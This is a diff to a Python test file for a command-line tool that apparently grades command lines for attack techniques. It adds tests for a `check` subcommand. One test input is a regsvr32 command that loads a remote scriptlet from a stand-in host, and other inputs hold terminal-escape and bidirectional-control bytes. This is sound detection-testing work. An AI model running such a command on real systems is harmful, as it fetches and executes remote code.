@@ -1,6 +1,7 @@
 #!/usr/bin/env python3
 # SPDX-License-Identifier: Apache-2.0
 """cli.py CATSPAW: what the program says to wrong usage, to those who ask for help, and where."""
+import json
 import os
 import pty
 import re
@@ -13,9 +14,11 @@ faults = []
 
 
 def run(*args, **more):
+    given = more.pop("given", None)
     env = {"PATH": os.environ["PATH"], "TERM": "xterm"}
     env.update({k: v for k, v in os.environ.items() if k.endswith("SAN_OPTIONS")})
-    return subprocess.run([PROGRAM, *args], env=env, stdin=subprocess.DEVNULL, cwd=more.pop("cwd", None),
+    where = {"stdin": subprocess.DEVNULL} if given is None else {"input": given}
+    return subprocess.run([PROGRAM, *args], env=env, **where, cwd=more.pop("cwd", None),
                           stdout=more.pop("stdout", subprocess.PIPE), stderr=subprocess.PIPE,
                           timeout=60, **more)
 
@@ -74,7 +77,7 @@ def helps():
     listed = run("--help")
     check("--help", listed.returncode == 0 and listed.stderr == b"", listed.stderr)
     names = re.findall(r"^  ([a-z]+) ", listed.stdout.decode(), re.M)
-    check("subcommands", {"scan", "events", "behaviours", "help"} <= set(names), names)
+    check("subcommands", {"scan", "check", "events", "behaviours", "help"} <= set(names), names)
     check("-h", run("-h").stdout == listed.stdout)
     check("help", run("help").stdout == listed.stdout)
     for name in names:
@@ -147,8 +150,38 @@ def terminal():
     check("evidence's name on a terminal", b"\x1b]" not in evil and b"\\u001B]0;x\\u0007" in evil, evil)
 
 
+def checks():
+    """`check`: as many answers as lines, in order, whatever the bytes; and its exit codes."""
+    bad, good = "regsvr32 /s /n /u /i:https://host.example/a.sct scrobj.dll", "notepad.exe a.txt"
+    r = run("check", "--json", bad, good)
+    got = [json.loads(l) for l in r.stdout.splitlines()]
+    check("check --json", [g["severity"] != "none" for g in got] == [True, False] and r.returncode == 0, r.stdout)
+    check("command_line", [g["command_line"] for g in got] == [bad, good], r.stdout)
+    check("techniques", got[0]["techniques"][:1] == ["T1218.010"] and got[1]["techniques"] == [], r.stdout)
+    typed = run("check", "--json", given=(bad + "\r\n\n" + good).encode())
+    got = [json.loads(l) for l in typed.stdout.splitlines()]
+    check("lines of standard input", [(g["command_line"], g["line"]) for g in got] == [(bad, 1), (good, 3)], typed.stdout)
+    lines = "".join(json.dumps({"command_line": c, "image": "x", "y": [1, {"z": None}]}) + "\n" for c in (bad, good, None))
+    fed = run("check", "--jsonl", given=lines.encode())
+    got = [json.loads(l) for l in fed.stdout.splitlines()]
+    check("check --jsonl", [g.get("command_line") for g in got] == [bad, good, None], fed.stdout)
+    hostile = run("check", "--json", given=b"mshta \xff\x00\x1b[31m\xe2\x80\xaex\n")
+    check("hostile bytes", json.loads(hostile.stdout)["command_line"] == "mshta \ufffd\0\x1b[31m\u202ex", hostile.stdout)
+    plain = run("check", given=b"mshta \x1b[31m\xe2\x80\xaex\n")
+    check("printable", b"\x1b" not in plain.stdout and b"\\u001B[31m\\u202Ex" in plain.stdout, plain.stdout)
+    check("--fail-on", run("check", "--fail-on", "high", bad).returncode == 1)
+    check("--fail-on of nothing", run("check", "--fail-on", "informational", good).returncode == 0)
+    empty = run("check", "--json", given=b"")
+    check("no lines", empty.returncode == 0 and empty.stdout == b"", empty.stderr)
+    for text in (b'{"a":1', b"[]", b'{"a":1} x', b"mshta"):
+        r = run("check", "--jsonl", given=b'{"command_line":"x"}\n' + text + b"\n")
+        check("%r is refused" % text, r.returncode == 2 and b"line 2" in r.stderr and r.stdout.count(b"\n") == 1, r.stderr)
+    check("--jsonl with arguments", run("check", "--jsonl", "x").returncode == 2)
+
+
 usage()
 helps()
+checks()
 accepted()
 terminal()
 for fault in faults:
